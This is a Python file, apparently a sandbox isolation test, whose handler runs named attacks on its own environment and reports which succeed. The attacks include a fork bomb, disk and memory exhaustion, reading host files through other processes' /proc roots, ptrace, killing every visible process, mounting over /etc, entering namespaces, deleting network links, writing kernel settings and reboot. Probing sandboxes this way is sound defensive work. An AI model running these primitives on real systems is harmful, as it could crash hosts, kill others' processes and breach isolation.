"""A function that attacks: each event is the name of an attack and its arguments; true is a success.

Attacks that could hurt the machine if nothing held them stop by themselves.
"""

import ctypes
import fcntl
import mmap
import os
import signal
import socket
import time
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path
from typing import Any

MEBIBYTE = 1024 * 1024
HERE = Path("/tmp")  # noqa: S108 - the function's own
HOSTS_DEVICES = ("/dev/mem", "/dev/kmsg", "/dev/kvm", "/dev/net/tun", "/dev/fuse")
libc = ctypes.CDLL(None, use_errno=True)


def handler(event: list[Any], context: object) -> Any:  # noqa: ANN401 - JSON
    """Attack."""
    del context
    name, *arguments = event
    return globals()[name](*arguments)


def fork_bomb(most: int) -> bool:
    """Have more processes than a function may."""
    children = []
    try:
        for _ in range(most):
            child = os.fork()
            if child == 0:
                signal.pause()
            children.append(child)
    except OSError:
        return False
    finally:
        for child in children:
            os.kill(child, signal.SIGKILL)
            os.waitpid(child, 0)
    return True


def open_files(most: int) -> bool:
    """Have more files open than a function may."""
    held = []
    try:
        for _ in range(most):
            held.append(os.open(os.devnull, os.O_RDONLY))  # noqa: PERF401 - what was opened must be closed
    except OSError:
        return False
    finally:
        for fd in held:
            os.close(fd)
    return True


def many_files(most: int) -> bool:
    """Fill the temporary directory with files of no size."""
    folder = HERE / "many"
    folder.mkdir()
    try:
        for number in range(most):
            (folder / str(number)).touch()
    except OSError:
        return False
    finally:
        for one in folder.iterdir():
            one.unlink()
        folder.rmdir()
    return True


def full_disk(megabytes: int) -> bool:
    """Fill the temporary directory with several files."""
    files = [HERE / f"part-{number}" for number in range(4)]
    try:
        for file in files:
            with file.open("wb") as part:
                for _ in range(megabytes // len(files)):
                    part.write(bytes(MEBIBYTE))
    except OSError:
        return False
    finally:
        for file in files:
            file.unlink(missing_ok=True)
    return True


def memory_of_children(children: int, megabytes: int) -> bool:
    """Have children take memory together, each no more than one may."""

    def take() -> object:
        taken = mmap.mmap(-1, megabytes * MEBIBYTE)
        for page in range(0, len(taken), mmap.PAGESIZE):
            taken[page] = 1
        return taken

    return hold_in_children(children, take)


def hold_in_children(children: int, take: Callable[[], object]) -> bool:
    """Have children hold what each has taken, until it has been looked at several times."""
    taking, has_taken = os.pipe()
    pids = []
    for _ in range(children):
        pid = os.fork()
        if pid == 0:
            try:
                kept = take()
                os.close(has_taken)
                time.sleep(20)
                del kept
            finally:
                os._exit(0)
        pids.append(pid)
    os.close(has_taken)
    os.read(taking, 1)  # ends when each has taken all, however long that takes on a busy machine
    time.sleep(2)
    for pid in pids:
        os.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)
    return True


def memory_in_descriptors(megabytes: int) -> bool:
    """Have memory that no process maps."""
    fd = libc.memfd_create(b"hidden", 0)
    if fd < 0:
        return False
    try:
        for _ in range(megabytes):
            os.write(fd, bytes(MEBIBYTE))
    finally:
        os.close(fd)
    return True


def memory_in_sockets(children: int, pairs: int) -> bool:
    """Have children fill sockets that nobody reads: the kernel's memory, which no process maps."""

    def take() -> object:
        kept = []
        for _ in range(pairs):
            kept.append(socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM))
            kept[-1][0].setblocking(False)
            with suppress(BlockingIOError):
                while True:
                    kept[-1][0].send(bytes(65536))
        return kept

    return hold_in_children(children, take)


def store(megabytes: int) -> bool:
    """Keep a file of that size, as any function may."""
    with (HERE / "kept").open("wb") as kept:
        for _ in range(megabytes):
            kept.write(bytes(MEBIBYTE))
    return True


def shared_memory(megabytes: int) -> bool:
    """Have System V shared memory, which outlives the processes that made it."""
    identifier: int = libc.shmget(0, ctypes.c_size_t(megabytes * MEBIBYTE), 0o1600)
    if identifier < 0:
        return False
    libc.shmctl(identifier, 0, None)
    return True


def read_file(path: str) -> bool:
    """Read a file of the host, also by way of other processes' roots."""
    places = [path, *(f"/proc/{pid}/{way}{path}" for pid in pids() for way in ("root", "cwd"))]
    places += [f"{root}{path}" for root in ("/root", "/mnt", "/proc/1/root/proc/1/root")]
    for place in places:
        with suppress(OSError):
            Path(place).read_bytes()
            return True
    return False


def see_process(text: str) -> bool:
    """Find a process by a text of its command line or environment."""
    for pid in pids():
        for kind in ("cmdline", "environ"):
            with suppress(OSError):
                if text.encode() in Path(f"/proc/{pid}/{kind}").read_bytes() and pid != os.getpid():
                    return True
    return False


def kill_everybody() -> bool:
    """Kill whatever a signal reaches beside oneself."""
    for pid in (*range(1, os.getpid()), -1):
        with suppress(OSError):
            if pid == -1 or pid != os.getpid():
                os.kill(pid, signal.SIGKILL if pid > 0 else signal.SIGCONT)
    return os.getppid() != 1


def wake_itself() -> bool:
    """Have a timer that sends SIGCONT, which wakes a stopped process whoever sends it."""
    event = (ctypes.c_int * 16)(0, 0, signal.SIGCONT, 0)  # struct sigevent: a value, the signal, SIGEV_SIGNAL
    timer = ctypes.c_void_p()
    return bool(libc.timer_create(time.CLOCK_MONOTONIC, event, ctypes.byref(timer)) == 0)


def wake_by_descriptor() -> bool:
    """Have SIGCONT sent whenever a packet arrives."""
    with suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as woken:
        fcntl.fcntl(woken, 10, signal.SIGCONT)  # F_SETSIG
        return True
    return False


def wake_by_child() -> bool:
    """Have a child whose end is told by SIGCONT."""
    child = libc.syscall(56 if os.uname().machine == "x86_64" else 220, signal.SIGCONT, None, None, None, None)
    if child == 0:
        os._exit(0)
    return bool(child > 0)


def wake_by_orphan() -> bool:
    """Be sent SIGCONT when the thread that made this process ends."""
    return bool(libc.prctl(1, signal.SIGCONT, 0, 0, 0) == 0)  # PR_SET_PDEATHSIG


def read_memory() -> bool:
    """Open another process's memory, or attach to it."""
    for pid in pids():
        if pid == os.getpid():
            continue
        if libc.ptrace(16, pid, 0, 0) == 0:
            return True
        with suppress(OSError), Path(f"/proc/{pid}/mem").open("rb"):
            return True
    return False


def connect(host: str, port: int) -> bool:
    """Connect over TCP."""
    with suppress(OSError), socket.create_connection((host, port), timeout=1):
        return True
    return False


def connect_abstract(name: str) -> bool:
    """Connect to a Unix socket without a file."""
    with suppress(OSError), socket.socket(socket.AF_UNIX) as client:
        client.connect(f"\0{name}")
        return True
    return False


def open_vsock() -> bool:
    """Have a socket that leads to the hypervisor's host."""
    with suppress(OSError), socket.socket(40, socket.SOCK_STREAM):
        return True
    return False


def open_raw() -> bool:
    """Have a socket that reads and writes any packet."""
    with suppress(OSError), socket.socket(socket.AF_PACKET, socket.SOCK_RAW):
        return True
    return False


def mount() -> bool:
    """Mount something where the function may not write."""
    return bool(libc.mount(b"x", b"/etc", b"tmpfs", ctypes.c_ulong(0), None) == 0)


def become_root() -> bool:
    """Be uid 0, or hold any capability."""
    with suppress(OSError):
        os.setuid(0)
    effective = next(line for line in Path("/proc/self/status").read_text().splitlines() if "CapEff" in line)
    return os.geteuid() == 0 or int(effective.split()[1], 16) != 0


def as_root() -> list[str]:
    """What root of the sandbox's user namespace can do to what is not its own; needs a weakened sandbox."""
    ways = (opened_devices, entered_namespaces, changed_mounts, touched_packets, changed_settings)
    return [one for way in ways for one in way()]


def opened_devices() -> list[str]:
    """Devices of the host, made or found."""
    with suppress(OSError):
        os.mknod(HERE / "disk", 0o60600, os.makedev(8, 0))
    return [str(one) for one in (HERE / "disk", *map(Path, HOSTS_DEVICES)) if can_open(one, "rb")]


def entered_namespaces() -> list[str]:
    """Namespaces of the sandbox's first process, and of whoever else is to be seen."""
    done = []
    for kind in ("net", "mnt", "pid", "ipc", "uts", "user"):
        for pid in pids():
            with suppress(OSError):
                fd = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
                if libc.setns(fd, 0) == 0:
                    done.append(f"setns to {kind} of {pid}")
    if libc.sethostname(b"owned", 5) == 0:
        done.append("sethostname")
    return done


def changed_mounts() -> list[str]:
    """In a copy of the mounts, which root of a user namespace may have: what is uncovered, written to, mounted."""
    done: list[str] = []
    if libc.unshare(0x00020000) != 0:
        return done
    places = ("/proc", str(HERE), "/etc/resolv.conf", "/var/task", "/mnt", "/usr/bin", "/")
    done += [f"umount {place}" for place in places if libc.umount2(place.encode(), 0) == 0]
    remount_writable = ctypes.c_ulong(0x20 | 0x1000)
    if libc.mount(b"x", b"/", None, remount_writable, None) == 0 and can_open(Path("/etc/written"), "wb"):
        done.append("write to the root")
    for kind in (b"sysfs", b"proc", b"cgroup2"):
        if libc.mount(kind, b"/opt", kind, ctypes.c_ulong(0), None) == 0:
            done.append(f"mount {kind.decode()}")
            libc.umount2(b"/opt", 2)
    return done


def touched_packets() -> list[str]:
    """Whether packets, rules or addresses of the network are within reach."""
    done = []
    with suppress(OSError), socket.socket(socket.AF_PACKET, socket.SOCK_RAW):
        done.append("read packets")
    with suppress(OSError), socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as route:
        # RTM_DELLINK of the first interface after loopback: acknowledged, or refused with an errno
        route.settimeout(2)
        route.send(
            bytes.fromhex("20000000110005000100000000000000") + bytes(4) + (2).to_bytes(4, "little") + bytes(8)
        )
        if int.from_bytes(route.recv(4096)[16:20], "little", signed=True) != -1:  # EPERM
            done.append("change links")
    return done


def changed_settings() -> list[str]:
    """Settings of the kernel, and what only the host's root may do."""
    names = ("kernel/core_pattern", "kernel/modprobe", "vm/drop_caches", "kernel/sysrq")
    done = [name for name in names if can_open(Path("/proc/sys") / name, "r+b")]
    if can_open(Path("/proc/sysrq-trigger"), "r+b"):
        done.append("sysrq")
    if libc.reboot(0) == 0:
        done.append("reboot")
    return done


def can_open(path: Path, mode: str) -> bool:
    """Whether it can be opened like that; nothing is read or written."""
    with suppress(OSError), path.open(mode):
        return True
    return False


def flood(seconds: float) -> bool:
    """Write to the log as fast as it takes it."""
    line = b"x" * 4095 + b"\n"
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        os.write(1, line)
    return True


def spin(seconds: float, processes: int) -> bool:
    """Keep the processors busy."""
    until = time.monotonic() + seconds
    children = []
    for _ in range(processes):
        child = os.fork()
        if child == 0:
            while time.monotonic() < until:
                pass
            os._exit(0)
        children.append(child)
    for child in children:
        os.waitpid(child, 0)
    return True


def share_session() -> bool:
    """Be weighed by the scheduler with the processes of others, of which one can have more."""
    return os.getsid(0) == 0  # of a process that is not to be seen here


def pids() -> list[int]:
    """The processes that are to be seen."""
    return [int(name) for name in os.listdir("/proc") if name.isdigit()]  # noqa: PTH208
